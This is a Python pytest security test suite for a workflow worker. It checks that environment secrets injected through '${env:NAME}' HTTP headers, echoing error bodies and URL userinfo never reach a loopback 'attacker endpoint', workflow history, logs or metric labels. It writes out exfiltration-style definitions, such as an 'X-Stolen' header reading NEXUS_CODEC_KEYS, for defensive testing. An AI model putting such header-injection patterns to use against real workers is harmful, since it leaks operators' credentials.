"""Attacks on worker secrets through ``${env:NAME}`` headers, echoing endpoints and URL
userinfo. Each runs as an attacker would: a definition (or a start input) against the real dev
server and a real worker, calling an "attacker endpoint" on 127.0.0.1 that records everything
it receives. A secret must never reach the endpoint unless the operator allowed it, and never
reach workflow history, logs, error messages or metric labels."""

from __future__ import annotations

import json
import logging
import threading
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from opentelemetry.sdk.metrics import MeterProvider
from opentelemetry.sdk.metrics.export import InMemoryMetricReader
from temporalio.client import WorkflowFailureError, WorkflowHandle
from temporalio.exceptions import ApplicationError
from temporalio.testing import WorkflowEnvironment
from temporalio.worker import Worker

from activities.breaker import BreakerRegistry
from activities.config import HttpSettings, ProvidersConfig
from activities.http import HttpProvider, is_secure
from activities.redact import Redactor, scrub_text, strip_userinfo
from interpreters.workflow import bind
from nexus_temporal.dsl.errors import DefinitionError
from tests.helpers.run import nexus_worker, registry_of, start
from workers.config import WorkerConfig
from workers.main import build_worker
from workers.resilience import AdaptiveRetryInterceptor, ResilienceSettings

CODEC_KEYS = "codec-key-Vq7Lr2xNs9"
PAYMENTS_TOKEN = 'pay"tok+en/=Hd81'  # JSON- and URL-encoding change its spelling
PAYMENTS_KEY = "payments-key-Jw3Fz6"
URL_PASSWORD = "urlpass-Tb5Mc4"

# --- the attacker endpoint -------------------------------------------------------------------


@dataclass
class Received:
    method: str
    path: str
    headers: dict[str, str]
    body: bytes


@dataclass
class Recorder:
    """A loopback HTTP server recording every request; ``reply`` builds the answer."""

    url: str
    requests: list[Received] = field(default_factory=list)
    reply: Callable[[Received], tuple[int, bytes]] = lambda r: (200, b"{}")

    def values(self) -> str:
        """Everything received, as one string to search for secrets."""
        return json.dumps(
            [[r.path, r.headers, r.body.decode(errors="replace")] for r in self.requests]
        )


def echo_headers(status: int) -> Callable[[Received], tuple[int, bytes]]:
    """Answer with the request's headers, raw, JSON-escaped and URL-encoded (as a real echo
    service or a verbose error page might)."""

    def reply(request: Received) -> tuple[int, bytes]:
        raw = " ".join(f"{k}: {v}" for k, v in request.headers.items())
        encoded = " ".join(quote(v, safe="") for v in request.headers.values())
        body = {"headers": request.headers, "raw": raw, "encoded": encoded}
        return status, json.dumps(body).encode()

    return reply


@contextmanager
def attacker_endpoint() -> Iterator[Recorder]:
    recorder = Recorder(url="")

    class Handler(BaseHTTPRequestHandler):
        def _serve(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            request = Received(
                self.command, self.path, dict(self.headers.items()), self.rfile.read(length)
            )
            recorder.requests.append(request)
            status, body = recorder.reply(request)
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET = do_PUT = _serve

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    recorder.url = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        yield recorder
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


# --- helpers -------------------------------------------------------------------------------


def flow(url: str, headers: dict[str, str], *, name: str = "leak", extra: str = "") -> str:
    header_lines = "".join(f"\n      {k}: '{v}'" for k, v in headers.items())
    return f"""
name: {name}
functions:
  call:
    uri: {url}
    headers:{header_lines}{extra}
states:
  - name: Exfiltrate
    action: call
    retry: {{max_attempts: 2, initial_interval: 10ms}}
"""


async def history_text(handle: WorkflowHandle[Any, Any]) -> str:
    return json.dumps((await handle.fetch_history()).to_json_dict())


async def failure_of(handle: WorkflowHandle[Any, Any]) -> tuple[str, ApplicationError]:
    """The workflow's failure message chain and the innermost typed error."""
    with pytest.raises(WorkflowFailureError) as info:
        await handle.result()
    messages: list[str] = []
    error: BaseException | None = info.value
    typed: ApplicationError | None = None
    while error is not None:
        messages.append(str(error))
        if isinstance(error, ApplicationError) and error.type:
            typed = error
        error = error.__cause__
    assert typed is not None, messages
    return " | ".join(messages), typed


def assert_nowhere(secret: str, *texts: str) -> None:
    for variant in (secret, json.dumps(secret)[1:-1], quote(secret, safe="")):
        for text in texts:
            assert variant not in text


def past_the_start_check(
    monkeypatch: pytest.MonkeyPatch, client: Any, yaml: str, providers: ProvidersConfig
) -> None:
    """Assert the worker refuses to start on ``yaml`` (the first defence), then skip that
    check so the test reaches the second one, at call time (as a worker whose start-up check
    was bypassed would)."""
    with pytest.raises(DefinitionError) as info:
        build_worker(
            client, WorkerConfig(task_queue="never", providers=providers), registry_of(yaml)
        )
    assert "state 'Exfiltrate'" in str(info.value)
    monkeypatch.setattr("workers.main.check_targets", lambda *a, **k: [])


@pytest.fixture
def worker_env(monkeypatch: pytest.MonkeyPatch) -> None:
    """The worker's environment: its codec keys (never for definitions) and the payments
    credentials an operator may hand to definitions."""
    monkeypatch.setenv("NEXUS_CODEC_KEYS", CODEC_KEYS)
    monkeypatch.setenv("PAYMENTS_TOKEN", PAYMENTS_TOKEN)
    monkeypatch.setenv("PAYMENTS_KEY", PAYMENTS_KEY)
    monkeypatch.delenv("NEXUS_HTTP_ENV_ALLOW", raising=False)


# --- attack 1: ${env:} reads any worker variable ---------------------------------------------


@pytest.mark.parametrize(
    ("allow", "variable", "secret"),
    [
        ((), "NEXUS_CODEC_KEYS", CODEC_KEYS),  # the default allows nothing
        (("PAYMENTS_*",), "NEXUS_CODEC_KEYS", CODEC_KEYS),
        (("*",), "NEXUS_CODEC_KEYS", CODEC_KEYS),  # a pattern never matches a worker variable
        (("PAYMENTS_TOKEN",), "PAYMENTS_KEY", PAYMENTS_KEY),
    ],
)
async def test_a_variable_the_operator_did_not_allow_is_never_sent(
    env: WorkflowEnvironment,
    worker_env: None,
    caplog: pytest.LogCaptureFixture,
    allow: tuple[str, ...],
    variable: str,
    secret: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    providers = ProvidersConfig(http=HttpSettings(env_allow=allow))
    with attacker_endpoint() as evil, caplog.at_level(logging.DEBUG):
        yaml = flow(f"{evil.url}/collect", {"X-Stolen": f"${{env:{variable}}}"})
        past_the_start_check(monkeypatch, env.client, yaml, providers)
        async with nexus_worker(env.client, yaml, providers=providers) as w:
            handle = await start(env.client, w, "leak", {})
            message, error = await failure_of(handle)
    assert evil.requests == []  # not sent, not even without the header
    assert error.type == "SecretNotAllowed" and error.non_retryable
    assert "Exfiltrate" in message  # the state that failed
    assert f"${{env:{variable}}}" in message and "'call'" in message  # variable and function
    assert "env_allow" in message and "NEXUS_HTTP_ENV_ALLOW" in message  # what to configure
    assert_nowhere(secret, message, await history_text(handle), caplog.text)


async def test_an_allowed_variable_reaches_its_endpoint_and_not_history(
    env: WorkflowEnvironment, worker_env: None, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """The operator allows PAYMENTS_* (providers file) and the endpoint gets the token; an
    endpoint echoing it in a 200 reply does not move it into history."""
    file = tmp_path / "providers.yaml"
    file.write_text("http:\n  env_allow: [PAYMENTS_*]\n")
    providers = ProvidersConfig.load(file, environ={})
    with attacker_endpoint() as endpoint, caplog.at_level(logging.DEBUG):
        endpoint.reply = echo_headers(200)
        yaml = flow(f"{endpoint.url}/charge", {"Authorization": "Bearer ${env:PAYMENTS_TOKEN}"})
        async with nexus_worker(env.client, yaml, providers=providers) as w:
            handle = await start(env.client, w, "leak", {"amount": 3})
            result = await handle.result()
    (received,) = endpoint.requests
    assert received.headers["Authorization"] == f"Bearer {PAYMENTS_TOKEN}"
    assert json.loads(received.body) == {"amount": 3}
    assert result["Exfiltrate"]["headers"]["Authorization"] == "Bearer ***"
    assert_nowhere(PAYMENTS_TOKEN, await history_text(handle), caplog.text)


def test_allow_list_from_the_environment_and_patterns() -> None:
    config = ProvidersConfig.load(environ={"NEXUS_HTTP_ENV_ALLOW": "PAYMENTS_*, ORDERS_TOKEN"})
    assert config.http.env_allow == ("PAYMENTS_*", "ORDERS_TOKEN")
    assert config.http.allows("PAYMENTS_KEY") and config.http.allows("ORDERS_TOKEN")
    assert not config.http.allows("ORDERS_KEY")
    everything = HttpSettings(env_allow=("*",))
    for reserved in ("NEXUS_CODEC_KEYS", "AWS_SECRET_ACCESS_KEY", "TEMPORAL_TLS_KEY"):
        assert not everything.allows(reserved)
    assert HttpSettings(env_allow=("NEXUS_CODEC_KEYS",)).allows("NEXUS_CODEC_KEYS")  # exact
    assert not ProvidersConfig.load(environ={}).http.allows("HOME")  # default: nothing
    with pytest.raises(ValueError, match="env_allow"):
        HttpSettings(env_allow=("PAY-MENTS",))


def test_the_start_up_check_names_the_variable() -> None:
    """The check a worker runs on its definitions' headers (see the provider's
    ``headers_problem``): a variable key_env names is reserved even if a pattern matches."""
    from activities.config import AzureSettings

    providers = ProvidersConfig(
        http=HttpSettings(env_allow=("PAYMENTS_*",)),
        azure=AzureSettings(auth="key", key_env="PAYMENTS_AZURE_KEY"),
    )
    http = HttpProvider(providers)
    assert http.headers_problem("https://pay.example/x", {"A": "${env:PAYMENTS_TOKEN}"}) is None
    problem = http.headers_problem("https://pay.example/x", {"A": "${env:PAYMENTS_AZURE_KEY}"})
    assert problem and "PAYMENTS_AZURE_KEY" in problem and "reserved" in problem
    insecure = http.headers_problem("http://pay.example/x", {"A": "${env:PAYMENTS_TOKEN}"})
    assert insecure and "https" in insecure


async def test_a_secret_is_not_sent_over_plain_http_to_a_non_loopback_host(
    env: WorkflowEnvironment,
    worker_env: None,
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """0.0.0.0 reaches this machine on Linux but is not a loopback name: the worker treats it
    as a remote host and refuses plain http (nothing leaves loopback either way)."""
    providers = ProvidersConfig(http=HttpSettings(env_allow=("PAYMENTS_TOKEN",)))
    with attacker_endpoint() as evil, caplog.at_level(logging.DEBUG):
        port = evil.url.rsplit(":", 1)[1]
        yaml = flow(f"http://0.0.0.0:{port}/c", {"Authorization": "Bearer ${env:PAYMENTS_TOKEN}"})
        past_the_start_check(monkeypatch, env.client, yaml, providers)
        async with nexus_worker(env.client, yaml, providers=providers) as w:
            handle = await start(env.client, w, "leak", {})
            message, error = await failure_of(handle)
    assert evil.requests == []
    assert error.type == "InsecureTransport" and error.non_retryable and "https" in message
    assert "Exfiltrate" in message
    assert_nowhere(PAYMENTS_TOKEN, message, await history_text(handle), caplog.text)
    assert is_secure("https://pay.example/x") and is_secure("http://localhost:1/x")
    assert not is_secure("http://pay.example/x") and not is_secure("http://127.0.0.1.nip.io/")


# --- attack 3: an echoing 4xx body ---------------------------------------------------------


@pytest.mark.parametrize("status", [400, 302])
async def test_an_echoing_error_body_does_not_reach_history(
    env: WorkflowEnvironment, worker_env: None, caplog: pytest.LogCaptureFixture, status: int
) -> None:
    providers = ProvidersConfig(http=HttpSettings(env_allow=("PAYMENTS_*",)))
    headers = {"Authorization": "Bearer ${env:PAYMENTS_TOKEN}", "X-Api-Key": "${env:PAYMENTS_KEY}"}
    with attacker_endpoint() as echo, caplog.at_level(logging.DEBUG):
        echo.reply = echo_headers(status)
        async with nexus_worker(env.client, flow(echo.url, headers), providers=providers) as w:
            handle = await start(env.client, w, "leak", {})
            message, error = await failure_of(handle)
    (received,) = echo.requests  # not retried: a client error
    assert received.headers["X-Api-Key"] == PAYMENTS_KEY  # the endpoint was allowed to get it
    details = error.details[0]["details"]  # the state's failure wraps the activity's
    assert error.type == "HttpError" and details["status"] == status
    body = details["body"]
    assert len(body) <= 500 and "***" in body and "Idempotency-Key" in body
    history = await history_text(handle)
    for secret in (PAYMENTS_TOKEN, PAYMENTS_KEY):
        assert_nowhere(secret, body, message, history, caplog.text)


def test_scrubbing_survives_truncation_and_patterns() -> None:
    secret = "s" * 40
    redactor = Redactor([secret])
    from activities.http import bounded_body

    body = bounded_body("x" * 480 + secret + "tail", redactor)
    assert secret[:10] not in body and len(body) <= 500
    text = redactor.text(f"https://u:p@h/x?a=1 Authorization: Bearer abc.DEF-123== {secret}")
    assert text == "https://***@h/x?a=1 Authorization: Bearer *** ***"
    assert redactor.values({"k": [f"a{secret}b"]}) == {"k": ["a***b"]}
    assert scrub_text("basic checks passed") == "basic checks passed"


# --- attack 4: URL userinfo in metric labels and messages ----------------------------------


USERINFO = """
name: userinfo
functions:
  call:
    uri: {url}
    retry: {{max_attempts: 3, initial_interval: 10ms, policy: adaptive}}
    circuit_breaker: {{minimum_calls: 1, window_size: 1, open_duration: 100ms}}
states:
  - name: Call
    action: call
    catch: [{{errors: ["*"], next: Done}}]
  - name: Done
    type: succeed
"""


@contextmanager
def metrics_reader() -> Iterator[tuple[InMemoryMetricReader, Any]]:
    reader = InMemoryMetricReader()
    yield reader, MeterProvider(metric_readers=[reader]).get_meter("test")


def labels_of(reader: InMemoryMetricReader) -> list[dict[str, Any]]:
    data = reader.get_metrics_data()
    assert data is not None
    return [
        dict(point.attributes or {})
        for rm in data.resource_metrics
        for sm in rm.scope_metrics
        for metric in sm.metrics
        for point in metric.data.data_points
    ]


async def test_url_userinfo_never_reaches_labels_logs_or_messages(
    env: WorkflowEnvironment, caplog: pytest.LogCaptureFixture
) -> None:
    """A failing target whose URL carries user:password: the breaker opens (its transition,
    rejection and state metrics), the adaptive policy labels its decisions, and the errors are
    recorded; none shows the password."""
    with metrics_reader() as (reader, meter), attacker_endpoint() as target:
        target.reply = lambda r: (503, b"busy")
        url = f"http://attacker:{URL_PASSWORD}@{target.url.removeprefix('http://')}/x"
        settings = ResilienceSettings(seed=1, refit_interval=0)
        config = WorkerConfig(
            task_queue=f"userinfo-{uuid.uuid4().hex[:10]}",
            providers=ProvidersConfig(),
            resilience=settings,
        )
        registry = registry_of(USERINFO.format(url=url))
        built = build_worker(env.client, config, registry).config()  # never started itself
        (original,) = [i for i in built["interceptors"] if isinstance(i, AdaptiveRetryInterceptor)]
        original.invoker.breakers = BreakerRegistry(meter)  # the worker's breakers, measured
        measured = AdaptiveRetryInterceptor(original.invoker, settings, meter=meter)
        built["interceptors"] = [measured if i is original else i for i in built["interceptors"]]
        built["task_queue"] = f"{config.task_queue}-measured"  # the first one registered it
        bind(env.client.namespace, built["task_queue"], registry, search_attributes=True)
        with caplog.at_level(logging.DEBUG):
            async with Worker(**built) as worker:
                handle = await start(env.client, worker, "userinfo", {})
                result = await handle.result()
        labels = labels_of(reader)
    assert target.requests  # it was called (with Basic auth from the userinfo)
    assert result["error"]["type"] in ("HttpError", "CircuitOpen")
    targets = {str(label["target"]) for label in labels if "target" in label}
    assert targets, labels  # breaker and retry metrics were recorded
    assert all("attacker:" not in t and "***@127.0.0.1" in t for t in targets), targets
    failures = [
        json.dumps(event)
        for event in (await handle.fetch_history()).to_json_dict()["events"]
        if "Failed" in event["eventType"] or "Completed" in event["eventType"]
    ]
    for text in (json.dumps(labels), json.dumps(result), caplog.text, *failures):
        assert URL_PASSWORD not in text and "attacker:" not in text


def test_target_keys_and_messages_without_userinfo() -> None:
    from activities.invoke import InvokeRequest

    http = HttpProvider(ProvidersConfig())
    request = InvokeRequest("f", f"https://bob:{URL_PASSWORD}@api.example/x?y=1")
    assert http.target_key(request) == "https://***@api.example/x?y=1"
    assert (
        strip_userinfo("see http://a@h and ftp://u:p@h2/") == "see http://***@h and ftp://***@h2/"
    )


def test_a_worker_refuses_to_start_on_a_header_it_may_not_fill(tmp_path: Path) -> None:
    """The same check at start, through the real command: a definition whose header reads a
    variable the operator did not allow is a located start-up error (exit 2), nothing runs."""
    from tests.helpers.processes import nexus_cmd, run_cli

    (tmp_path / "leak.yaml").write_text(
        flow("https://pay.example/c", {"Authorization": "Bearer ${env:NEXUS_CODEC_KEYS}"})
    )
    # Port 1: nothing listens there, so exit 2 proves the worker stopped at its definitions.
    out = run_cli(nexus_cmd("worker", str(tmp_path), "--address", "127.0.0.1:1"), timeout=60)
    assert out.returncode == 2, (out.stdout, out.stderr)
    assert "leak.yaml" in out.stderr and "state 'Exfiltrate'" in out.stderr, out.stderr
    assert "NEXUS_CODEC_KEYS" in out.stderr and "env_allow" in out.stderr
    assert "Traceback" not in out.stderr + out.stdout
